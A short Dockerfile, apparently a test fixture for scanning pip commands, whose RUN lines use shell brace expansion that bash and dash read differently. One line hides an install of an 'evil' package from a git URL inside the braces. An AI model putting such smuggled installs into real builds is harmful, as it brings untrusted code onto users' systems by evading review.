FROM python:3.12
# dash runs each word as written; where /bin/sh is bash (Fedora, RHEL) it expands them.
RUN pip {install,} flask
RUN pip install --only-binary :all: {flask,"evil @ git+https://github.com/a/evil"}
RUN {pip,install} flask
RUN uv pip {install,} flask
